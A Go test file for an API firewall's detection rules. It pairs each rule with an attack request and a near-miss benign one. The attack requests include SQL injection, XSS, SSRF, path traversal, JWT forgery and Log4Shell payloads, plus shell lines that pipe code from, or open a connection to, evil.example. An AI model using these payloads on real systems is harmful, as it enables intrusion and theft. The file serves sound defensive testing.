package detect

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/apiwarden/apiwarden/apimodel/call"
)

// boundary is one rule's edge: a request that must fire it and the
// closest benign request that must not.
type boundary struct {
	rule      string
	hit, miss *call.Request
}

func withMethod(m string, r *call.Request) *call.Request {
	r.Method = m
	return r
}

func noCT(method, path, body string) *call.Request {
	r := get(path)
	r.Method = method
	r.Body = []byte(body)
	r.BodySize = int64(len(body))
	return r
}

func fired(fs []Finding, rule string) bool {
	for _, f := range fs {
		if f.RuleID == rule {
			return true
		}
	}
	return false
}

func runBoundaries(t *testing.T, cases []boundary) {
	t.Helper()
	d := newDetector(t, Config{Paranoia: 2})
	for _, c := range cases {
		if fs := d.Inspect(c.hit, "svc"); !fired(fs, c.rule) {
			t.Errorf("%s: must fire on %s %s?%s body=%q, got %+v", c.rule, c.hit.Method, c.hit.Path, c.hit.RawQuery, c.hit.Body, fs)
		}
		if fs := d.Inspect(c.miss, "svc"); fired(fs, c.rule) {
			t.Errorf("%s: must not fire on %s %s?%s body=%q, got %+v", c.rule, c.miss.Method, c.miss.Path, c.miss.RawQuery, c.miss.Body, fs)
		}
	}
}

func TestProtocolFamilyBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		{"method-not-allowed", withMethod("PROPFIND", get("/files")), withMethod("OPTIONS", get("/files"))},
		{"method-not-allowed", withMethod("|GET", get("/")), withMethod("PATCH", get("/items/1"))},
		{"protocol-body-without-content-type", noCT("PUT", "/resource/1", `{"name":"x"}`), post("/resource/1", jsonCT, `{"name":"x"}`)},
		{"protocol-content-type-policy", post("/", "application/x-amf", "x"), post("/", "application/vnd.api+json", `{"data":{}}`)},
		{"protocol-content-type-policy", post("/", formCT+"; charset=utf-8; charset=utf-7", "a=b"), post("/", formCT+"; charset=utf-8", "a=b")},
		{"protocol-header-shape", get("/", "Accept", "text/html;q=0.9;charset=CP1026"), get("/", "Accept", "text/html;charset=utf-8, */*;q=0.8")},
		{"protocol-policy", get("/up", "Request-Range", "bytes=0-512"), get("/up", "Range", "bytes=0-512")},
		// A NUL in a JSON string or a form value; the closest benign
		// values escape other control bytes or hold "%00" as text.
		{"protocol-policy", post("/f", jsonCT, `{"name":"a.php\u0000.png"}`), post("/f", jsonCT, `{"name":"a\u0001b","pct":"100%00"}`)},
		{"protocol-policy", post("/f", formCT, "name=a.php%00.png"), post("/f", formCT, "note=100%2500")},
		// The file is the last segment; a dotted namespace before it is not.
		{"protocol-restricted-extension", get("/backup/db.sql"), get("/providers/Microsoft.Sql/servers/s1")},
		{"protocol-restricted-extension", get("/files/site.bak/"), get("/files/site.bak.txt")},
		{"protocol-restricted-extension", get("/app/config.php~"), get("/app/config.php")},
		{"protocol-restricted-extension", get("/certs/server.key;x=1"), get("/certs/server.keys")},
	})
}

func TestSessionFixationBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		{"session-fixation-param", get("/login?_flask_session=eyJ4IjoxfQ", "Referer", "https://evil.example/"),
			get("/login?_flask_session=eyJ4IjoxfQ", "Referer", "https://api.example.com/start")},
		{"session-fixation-param", get("/login?cakephp=abc123"), get("/login?cakephp_version=4")},
	})
}

func TestSQLiFamilyBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		{"sqli-chained-condition", get("/p?pay=AND+2771%3D1709%29"), get("/p?q=rock+and+roll+forever")},
		{"sqli-chained-condition", get("/p?pay=%7C%7C+arg+%3D%3D+%27"), post("/x", "application/xml", "<order><note>door & ring</note></order>")},
		{"sqli-stacked-statement", get("/p?v=1%3BSET+%40OLD_SQL_MODE"), get("/p?v=set+the+table%3B+update+me+later")},
		{"sqli-stacked-statement", get("/p?v=declare+%40b"), get("/p?v=I+declare+victory")},
		{"sqli-mssql-oracle-procedure", get("/p?v=xp_dirtree"), get("/p?v=xp_points")},
		{"sqli-comment-evasion", get("/p?t=DR/**/OP+sampletable"), post("/c", jsonCT, `{"code":"int x = 1; /* the count */ return x;"}`)},
		{"sqli-json-operator", get("/p?id=OR+%27%5B1%2C2%5D%27+%3F+%271%27"), get("/p?q=is+%27this%27+the+one%3F")},
		{"sqli-quote-terminator", get("/p?email=admin%40juice-sh.op%27%3B"), get("/p?email=admin%40juice-sh.op")},
		{"sqli-magic-number", get("/p?n=4294967296"), get("/p?n=4294967290")},
		{"sqli-db-function", get("/p?v=x%27+or+name_const(1,1)"), get("/p?v=name+const")},
	})
}

func TestNodeSSRFRFITraversalBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		{"nodejs-js-sink", get("/g?foo=console.info.call(this,1)"), get("/g?foo=the+console+is+on+the+info+desk")},
		{"nodejs-js-sink", get("/g?t=%7B%22get%22%3A%22%243%3Aconstructor%3Aconstructor%22%7D"), get("/g?t=constructor+of+the+house")},
		{"nodejs-dos-loop", get("/g?eval=while(!false)"), post("/c", jsonCT, `{"code":"while (i < n) { i++ }"}`)},
		{"nodejs-dos-loop", get("/g?eval=d2hpbGUodHJ1ZSk7Cg=="), get("/g?eval=aGVsbG8gd29ybGQ=")},
		{"ssrf-internal-hostname", get("/t?url=host.docker.internal/"), get("/t?db_host=localhost")},
		{"ssrf-internal-hostname", get("/t?url=localhost:8080/admin"), get("/t?q=localhost+testing+guide")},
		{"ssrf-internal-url", get("/t?http://2852039166/"), get("/t?http://www.example.com/")},
		{"rfi-ip-url", get("/t?src=http://66.240.183.75/crash.php"), get("/t?src=https://cdn.example.com/crash.php")},
		{"rfi-ip-url", get("/t?src=https://[2001:41d0:701:1100::29c8]/gecko.php"), get("/t?ts=12:30:45")},
		{"rfi-url-truncation", get("/t?x=http://evil.example/shell.txt?"), get("/t?x=https://www.example.com/search?q=1")},
		{"rfi-include-param", get("/c.php?mosConfig_absolute_path=https://foo.bar"), get("/c.php?mosConfig_absolute_path=/var/www")},
		{"lfi-agent-config", get("/.cursor/mcp.json"), get("/api/v1/cursor/next")},
		{"lfi-agent-config", get("/wp-content/debug.log"), get("/api/v1/debug/logs")},
		{"traversal-single", get("/g?a=..;.%5C.;%5C."), get("/g?a=wait...;ok")},
	})
}

func TestSQLiEvasionBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		{"sqli-select-probe", get("/g?var=select+pg_sleep"), get("/g?q=please+select+a+sleep+mode")},
		{"sqli-glued-union", get("/g?t=Xunionselectfrom"), get("/g?t=reunion+selection")},
		{"sqli-numeric-evasion", get("/g?foo=1.e(ascii)"), get("/g?foo=v1.example")},
		{"sqli-numeric-evasion", get("/g?var=if(1234%3D"), get("/g?var=if+(you+can)")},
		{"sqli-postgres-cast-json", get("/g?id=password::int"), get("/g?t=12:30::00")},
		{"sqli-libinjection", get("/g?id=1%E2%80%99+OR+%E2%80%991%E2%80%99%3D%E2%80%99x%E2%80%99%23"), get("/g?q=it%E2%80%99s+John%E2%80%99s+car")},
	})
}

func TestXSSFamilyBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		{"xss-obfuscated-tag", get("/g?foo=bar%3Cf%20o%20r%20m"), get("/g?foo=a+%3C+b+or+m")},
		{"xss-obfuscated-tag", get("/g", "Cookie", "%3Cv%3Avmlframe%20src%3D%22foo.com%2Fsup.fml%22%2F%3E=1"), get("/g?t=x%3Cv+1")},
		{"xss-css-active", get("/g", "Cookie", "s=<STYLE>BODY{-moz-binding:url(\"http://x/x.xml#xss\")}"), get("/g?t=binding+agreement")},
		{"xss-css-active", get("/g?test=%20data%3A%20%2C%20%3Cx%3E"), get("/g?test=metadata%3A+none")},
		{"xxe-external-entity", get("/g", "User-Agent", "foo!ENTITY % bar SYSTEM"), get("/g", "User-Agent", "entity system bar")},
	})
}

func TestMarkdownProseLowersShellConfidence(t *testing.T) {
	d := newDetector(t, Config{})
	prose := post("/issues", jsonCT, `{"title":"`+"`rm -rf`"+` in the cleanup script deletes too much"}`)
	for _, f := range d.Inspect(prose, "svc") {
		if (f.Class == "rce" || f.Class == "cmdi") && f.Confidence >= 85 {
			t.Errorf("markdown prose blocked: %+v", f)
		}
	}
	// A fenced block with a language tag is code shown as code.
	fence := post("/chat", jsonCT, `{"content":"`+"```bash\\ncurl -s https://api.example.com/v1/health | jq .status\\n```"+`"}`)
	for _, f := range d.Inspect(fence, "svc") {
		if (f.Class == "rce" || f.Class == "cmdi") && f.Confidence >= 85 {
			t.Errorf("language fence blocked: %+v", f)
		}
	}
	// The same command chained, or substituted without prose around it, or
	// a fence without a language tag, still blocks.
	for _, body := range []string{`{"title":"` + "```\\n; curl -s https://evil.example/x | sh\\n```" + `"}`, `{"title":"x; ` + "`rm -rf /`" + `"}`, `{"title":"run ` + "`id`" + ` now | nc evil.example 4444 please"}`} {
		blocked := false
		for _, f := range d.Inspect(post("/issues", jsonCT, body), "svc") {
			blocked = blocked || (f.Class == "rce" || f.Class == "cmdi") && f.Confidence >= 85
		}
		if !blocked {
			t.Errorf("not blocked: %s", body)
		}
	}
}

func TestPHPLog4jProtoBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		{"php-interpolation-call", get("/g?foo=%24%7B%27ff%27%7D"), get("/g?greeting=Hello+%24%7Bfirst_name%7D")},
		{"php-interpolation-call", get("/g?x=$y+=+%27sys%27.%27tem%27%3b%28$y%29%28%27uname%27%29%3B"), get("/g?x=see+(figure+2)+(left)")},
		{"php-rare-function", get("/g?t=tidy_parse_string%28%29"), get("/g?t=tidy+up+the+string")},
		{"php-rare-function", get("/g?t=ldap_get_entries%28%29"), get("/g?t=ldap_get_entries+is+slow")},
		{"php-rare-function", get("/g?t=sodium_crypto_box_keypair+%28"), get("/g?t=sodium+(salt)")},
		{"php-data-wrapper", get("/g?ssrf=data:text/plain;base64,SSBsb3ZlIFBIUAo="), post("/a", jsonCT, `{"avatar":"data:image/png;base64,iVBORw0KGgo="}`)},
		{"log4shell-entity-brace", post("/p", jsonCT, `{"foo":"$&LBRACE;jndi:ldap://evil.com/x}"}`), post("/p", jsonCT, `{"foo":"price in $&amp; brace"}`)},
		{"proto-pollution-key", get("/g?a[constructor][prototype]=image"), get("/g?a[constructor]=builder")},
		{"protocol-header-shape", get("/g", "Cookie", `$Version=1; session="deadbeef; PHPSESSID=secret"`), get("/g", "Cookie", "version=1; session=deadbeef")},
	})
}

func TestRCEBuiltinBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		{"rce-shell-builtin", get("/g?rce=alias+eennvv%3Denv%26eennvv+whoami"), get("/g?q=his+alias+is+Bob")},
		{"rce-shell-builtin", get("/g?code=time+ifconfig"), get("/g?code=time+flies+like+an+arrow")},
		{"rce-shell-builtin", get("/g?arg=%3Btrap+%27rm+-rf+file.txt%27+SIGEXIT"), get("/g?q=a+trap+for+mice")},
		{"rce-shell-builtin", get("/g?code=ansible-playbook+site.yml"), get("/g?q=ansible+playbook+question")},
		{"rce-windows-for-if", get("/g?foo=for+%25%25variable+in+(set)+do+command"), get("/g?foo=for+all+variables+in+(the+set)+do+this")},
		{"rce-windows-for-if", get("/g?foo=if+not+(2+equ+2)+echo+hey"), get("/g?foo=if+not+(now)+then+later")},
	})
}

func TestRubyPerlBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		{"rce-ruby-perl-exec", get("/g?x=Process.spawn(%22id%22)"), get("/g?x=the+process+spawns+workers")},
		{"rce-ruby-perl-exec", get("/g?x=%40%7B%5B%20system%20qq%7Bwhoami%7D%20%5D%7D"), get("/g?x=%40%7Bname%7D")},
	})
}

func TestNodeBase64Boundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		{"nodejs-dos-loop", get("/g", "Cookie", "test_cookie=cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoJ3dob2FtaScpCg=="), get("/g", "Cookie", "test_cookie=eyJ1c2VyIjoiYm9iIn0=")},
		{"nodejs-js-sink", get("/g?foo=function%28%29+%7B"), post("/c", jsonCT, `{"code":"the function() call returns { ok }"}`)},
	})
}

// jwt builds a compact JWS with the given protected header (the signature
// is not checked by the rules).
func jwt(header string) string {
	enc := func(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }
	return enc(header) + "." + enc(`{"sub":"u1","exp":4102444800}`) + ".c2ln"
}

func TestAPIFamilyBoundaries(t *testing.T) {
	deep := "{" + strings.Repeat("a{", 13) + "id" + strings.Repeat("}", 14)
	fine := "{" + strings.Repeat("a{", 6) + "id" + strings.Repeat("}", 7)
	var aliases, fewAliases strings.Builder
	aliases.WriteString("query { ")
	fewAliases.WriteString("query { ")
	for i := range 60 {
		fmt.Fprintf(&aliases, "a%d: login(user: \"u\", pass: \"p%d\") { token } ", i, i)
		if i < 5 {
			fmt.Fprintf(&fewAliases, "a%d: user(id: %d) { name } ", i, i)
		}
	}
	aliases.WriteString("}")
	fewAliases.WriteString("}")
	batch := func(n int) string {
		ops := make([]string, n)
		for i := range ops {
			ops[i] = `{"query":"query { me { id } }"}`
		}
		return "[" + strings.Join(ops, ",") + "]"
	}
	gql := func(q string) string { b, _ := json.Marshal(map[string]string{"query": q}); return string(b) }
	runBoundaries(t, []boundary{
		{"jwt-alg-none", get("/me", "Authorization", "Bearer "+jwt(`{"alg":"none","typ":"JWT"}`)),
			get("/me", "Authorization", "Bearer "+jwt(`{"alg":"HS256","typ":"JWT"}`))},
		{"jwt-alg-none", get("/me", "Cookie", "theme=dark; session="+jwt(`{"alg":"NoNe"}`)),
			get("/me", "Cookie", "theme=dark; session="+jwt(`{"alg":"RS256","kid":"none"}`))},
		{"jwt-kid-injection", get("/me", "Authorization", "Bearer "+jwt(`{"alg":"HS256","kid":"../../../../dev/null"}`)),
			get("/me", "Authorization", "Bearer "+jwt(`{"alg":"HS256","kid":"2024-05-key-1"}`))},
		{"jwt-kid-injection", get("/me", "X-Access-Token", jwt(`{"alg":"HS256","kid":"x' UNION SELECT 'key"}`)),
			get("/me", "X-Access-Token", jwt(`{"alg":"RS256","kid":"a1b2c3d4e5"}`))},
		{"graphql-introspection", post("/graphql", jsonCT, gql(`query IntrospectionQuery { __schema { types { name } } }`)),
			post("/graphql", jsonCT, gql(`query { user(id: 1) { name __typename } }`))},
		{"graphql-introspection", post("/graphql", "application/graphql", `{ __type(name: "User") { fields { name } } }`),
			post("/graphql", "application/graphql", `{ users { name } }`)},
		{"graphql-abuse", post("/graphql", jsonCT, gql("query "+deep)), post("/graphql", jsonCT, gql("query "+fine))},
		{"graphql-abuse", post("/graphql", jsonCT, gql(aliases.String())), post("/graphql", jsonCT, gql(fewAliases.String()))},
		{"graphql-abuse", post("/graphql", jsonCT, batch(11)), post("/graphql", jsonCT, batch(10))},
	})
}

func TestEvasionFamilyBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		{"traversal-filter-evasion", get("/files?name=..././..././etc/passwd"), get("/files?name=./docs/readme.md")},
		{"traversal-filter-evasion", get("/files?name=..0x2f..0x2fetc/passwd"), get("/files?name=v1.2/notes")},
		{"rfi-unc-or-mangled-url", get("/page?tpl=%5C%5Cattacker%5Cshare%5Cx.php"), get("/page?tpl=C%3A%5CUsers%5Cdocs")},
		{"rfi-remote-script", get("/page?inc=http://evil.example/shell.php?"), get("/page?ref=https://docs.example.com/guide.html")},
		{"ssrf-internal-url", post("/hooks", jsonCT, `{"url":"http://app.lvh.me/admin"}`), post("/hooks", jsonCT, `{"url":"http://8.8.8.8.nip.io/"}`)},
		{"ssrf-internal-url", post("/hooks", jsonCT, `{"url":"http://app-127-0-0-1.sslip.io/"}`), post("/hooks", jsonCT, `{"url":"https://api.example.com/v1"}`)},
	})
}

func TestMarkupProseLowersXSSConfidence(t *testing.T) {
	d := newDetector(t, Config{})
	// A bare tag named in a sentence is text about HTML: below the block threshold.
	prose := post("/chat", jsonCT, `{"content":"Explain what the <script> tag does in HTML to a beginner."}`)
	for _, f := range d.Inspect(prose, "svc") {
		if f.Class == "xss" && f.Confidence >= 85 {
			t.Errorf("markup prose blocked: %+v", f)
		}
	}
	// The closest attacks: code after the tag, an attribute, or no sentence around it.
	for _, body := range []string{
		`{"content":"Explain what the <script>alert(1)</script> tag does in HTML"}`,
		`{"content":"Explain what the <script src=//evil.example/x.js> tag does in HTML"}`,
		`{"content":"Explain what the <script>alert` + "`1`" + `</script> tag does in HTML"}`,
		`{"content":"<script>"}`,
	} {
		blocked := false
		for _, f := range d.Inspect(post("/chat", jsonCT, body), "svc") {
			blocked = blocked || f.Class == "xss" && f.Confidence >= 85
		}
		if !blocked {
			t.Errorf("not blocked: %s", body)
		}
	}
}

func TestSubstitutionBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		{"cmdi-substitution", post("/p", jsonCT, `{"slug":"`+"`id`"+`"}`), post("/p", jsonCT, `{"slug":"%60rm--rf%60-in-the-cleanup-script"}`)},
		{"cmdi-substitution", post("/p", jsonCT, `{"slug":"`+"`cat$IFS/etc/passwd`"+`"}`), post("/p", jsonCT, `{"slug":"`+"`cat-v`"+` is a dog"}`)},
	})
}

func TestSQLJSONOperatorBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		{"sqli-json-operator", get("/g?x=OR+%27%7B%22a%22%3A%22b%22%7D%27+%3F+%27a%27"), get("/g?x=or+%27%7B%22a%22%3A%22b%22%7D%27+what%3F")},
	})
}

func TestShellQuoteEvasionBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		// Quotes inside a command word come in pairs; an English
		// contraction has one.
		{"rce-shell-evasion", get("/g?c=%3Bca%27%27t+/etc/passwd"), post("/p", jsonCT, `{"body":"In Java: `+"`List<String> names = new ArrayList<>();`"+` I'm <3 this"}`)},
		{"rce-shell-evasion", get("/g?c=%3B/%3Fin/c%3Ft+x"), post("/p", jsonCT, `{"returnUrl":"https://shop.example.com/?submerchant=123"}`)},
		{"rce-shell-evasion", post("/p", jsonCT, `{"c":"w'h'o'a'm'i <(id)"}`), post("/p", jsonCT, `{"c":"I ping'd support {twice}; can't wait"}`)},
	})
}

func TestMailProtocolBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		// An IMAP command line starts with a tag (a001, a1, *), not an English word.
		{"rce-mail-protocol", post("/p", jsonCT, `{"m":"x\na001 delete INBOX"}`), post("/p", jsonCT, `{"m":"Hi\nPlease delete my old address and insert the new one"}`)},
		{"rce-mail-protocol", post("/p", jsonCT, `{"m":"x\r\n. select INBOX"}`), post("/p", jsonCT, `{"m":"Regards,\r\nAnna select the best option"}`)},
	})
}

func TestSQLFilterExpressionBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		// A JQL/Lucene-style filter is not SQL; the closest injections are.
		{"sqli-libinjection", get("/s?jql=x%22+AND+1%3D1+--"), get("/s?jql=project+%3D+WEB+AND+status+in+(Open%2C+%22In+Progress%22)+ORDER+BY+created+DESC")},
		{"sqli-libinjection", get("/s?jql=text+~+%22a%22+AND+sleep(5)"), get("/s?jql=text+~+%22login+error%22+AND+updated+%3E%3D+-7d")},
		{"sqli-libinjection", get("/s?jql=%22+or+%22%22%3D%22"), get("/s?jql=assignee+%3D+%22Jane+Doe%22+OR+reporter+%3D+%22Jane+Doe%22")},
	})
	for _, v := range []string{`name" or "1"="1`, `a AND 1=1`, `x" union select 1`, `(status = open`, `x = y; drop table t`} {
		if filterExpression(v) {
			t.Errorf("filterExpression(%q) = true", v)
		}
	}
}

func TestSQLCodeProseLowersConfidence(t *testing.T) {
	d := newDetector(t, Config{})
	prose := post("/chat", jsonCT, `{"content":"What does `+"`SELECT COUNT(*) FROM orders GROUP BY status`"+` return?"}`)
	for _, f := range d.Inspect(prose, "svc") {
		if f.Class == "sqli" && f.Confidence >= 85 {
			t.Errorf("SQL quoted as code in a question blocked: %+v", f)
		}
	}
	for _, body := range []string{
		`{"content":"1' union select count(*) from users -- "}`,
		`{"content":"What does ` + "`SELECT COUNT(*) FROM orders`" + ` return'; select count(*) from users --"}`,
		`{"content":"x` + "` union select count(*) from users where `" + `a=1"}`,
	} {
		blocked := false
		for _, f := range d.Inspect(post("/chat", jsonCT, body), "svc") {
			blocked = blocked || f.Class == "sqli" && f.Confidence >= 85
		}
		if !blocked {
			t.Errorf("not blocked: %s", body)
		}
	}
}

func TestSSRFNotationBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		// Circled digits/letters fold to ASCII in a host name (IDNA).
		{"ssrf-internal-url", get("/g?u=imap://%E2%91%A0%E2%91%A1%E2%91%A6.%E2%93%AA.%E2%93%AA.%E2%91%A0"), get("/g?u=rate+%E2%91%A0%E2%91%A6+stars+%2F%2F+ok")},
		{"ssrf-internal-url", get("/g?u=irc://%E2%93%9B%E2%93%9E%E2%93%92%E2%93%90%E2%93%9B%E2%93%97%E2%93%9E%E2%93%A2%E2%93%A3"), get("/g?u=irc://irc.libera.chat")},
		// An IPv4 address as one integer, hex or octal is an evasion wherever it points.
		{"ssrf-internal-url", get("/g?u=http%3A2852039166"), get("/g?u=http%3A%2F%2Fexample.com")},
		{"ssrf-internal-url", get("/g?u=http%3A123456789"), post("/p", jsonCT, `{"entrypoint":"http:8080"}`)},
		{"ssrf-internal-url", get("/g?u=http://0x7f.1/"), get("/g?u=http://93.184.216.34/")},
		{"ssrf-internal-url", get("/g?u=rtmp://017700000001"), get("/g?u=rtmp://live.example.com/app")},
		{"ssrf-internal-url", get("/g?u=local_file://x/etc/passwd"), get("/g?u=file_name://x")},
		// Parser confusion: a host-shaped piece after '@' before the path.
		{"ssrf-internal-url", get("/g?u=http://a.com%3A80%20%26%40127.1.2.3%3A22%2F"), get("/g?u=http://a.com/%40127.1.2.3")},
	})
}

func TestTraversalLeadingParentBoundaries(t *testing.T) {
	upload := func(filename string) *call.Request {
		body := "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + filename + "\"\r\nContent-Type: application/octet-stream\r\n\r\nDATA\r\n--b--\r\n"
		return post("/upload", "multipart/form-data; boundary=b", body)
	}
	runBoundaries(t, []boundary{
		{"traversal-leading-parent", upload(`..\1.7z`), upload(`1..7.7z`)},
		{"traversal-leading-parent", get("/g?a=..;.%5C.;%5C."), get("/g?a=see+../docs+for+more")},
		{"traversal-leading-parent", get("/g?f=../x"), get("/g?f=...and+so+on")},
	})
}

func TestPerlInterpolationBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		{"rce-perl-interpolation", get("/g?x=%40%7B%5B%24%24%5D%7D"), get("/g?x=%40%7Bname%7D+and+%5Bx%5D")},
		{"rce-perl-interpolation", get("/g?x=%40%7B+++%5B+uc+%27hi%27+%5D+++%7D"), get("/g?x=user%40%7B%22a%22%3A%5B1%5D%2C%22b%22%3A2%7D")},
	})
}

func TestXPathInjectionBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		// A quote closed, then or/and and a node function.
		{"xpath-injection", get("/p?u=x%27%20or%20name()%3D%27a"), get("/p?u=x%27s%20name%20or%20nickname")},
		{"xpath-injection", get("/p?u=%22%20and%20count(/a)"), get("/p?u=%22a%22%20and%20count%20them")},
		// A location path on an axis, or count() of an absolute path.
		{"xpath-injection", get("/p?q=/child::node()"), get("/p?q=std::vector")},
		{"xpath-injection", get("/p?q=count(/x)"), get("/p?q=count(x)")},
	})
}

func TestDataURIAndSSJSBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		// base64 of "<?php system('id'); ?>" in a data: URI; the closest
		// benign value is a real 1x1 PNG.
		{"data-uri-code", post("/p", jsonCT, `{"src":"data:;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg=="}`), post("/p", jsonCT, `{"avatar":"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="}`)},
		{"data-uri-code", get("/p?f=data:text/plain;base64,PHNjcmlwdD4="), get("/p?f=data:text/plain;base64,aGVsbG8=")},
		// A quote closed, then a JavaScript statement.
		{"ssjs-statement-injection", get("/p?u=%27;d=new%20Date();"), get("/p?u=it%27s%20new;%20d%20=%20new%20ideas")},
		{"ssjs-statement-injection", post("/p", jsonCT, `{"u":"\";while(1){}"}`), post("/p", jsonCT, `{"u":"say \"hi\"; while (you wait) read"}`)},
		{"ssjs-statement-injection", get("/p?u=%27;var%20x=1"), get("/p?u=%27;%20var%20names")},
	})
}

func TestXSSStringBreakoutBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		// A string closed, then a dialog call; the closest prose names the
		// call without closing a string before it.
		{"xss-js-string-breakout", post("/p", jsonCT, `{"q":"\\\";alert(1);//"}`), post("/p", jsonCT, `{"q":"use alert(msg) to debug"}`)},
		{"xss-js-string-breakout", post("/p", jsonCT, `{"q":"x'-alert(1)-'"}`), post("/p", jsonCT, `{"q":"the 'alert' - confirm it"}`)},
	})
}

func TestXSSDialogAndSchemeBoundaries(t *testing.T) {
	runBoundaries(t, []boundary{
		// A JSON value that is only a dialog call; the closest benign value
		// is prose naming it.
		{"xss-dialog-call-value", post("/p", jsonCT, `{"q":"alert('xss');"}`), post("/p", jsonCT, `{"q":"call alert('saved') after the save"}`)},
		{"xss-dialog-call-value", post("/p", jsonCT, `{"q":"'confirm(0);',"}`), post("/p", jsonCT, `{"q":"confirm(order)(now)"}`)},
		{"xss-script-tag", post("/p", jsonCT, `{"q":"<img src=\"mocha:[code]\">"}`), post("/p", jsonCT, `{"q":"a mocha: latte"}`)},
		{"xss-js-call-json", post("/p", jsonCT, `{"q":"x onclick=alert(1) y"}`), post("/p", jsonCT, `{"q":"an alert (level 2) was raised"}`)},
		{"xss-legacy-scheme", get("/p?u=res://c:\\x.dll/%232/%23210"), get("/p?u=res://assets/x.png")},
	})
}
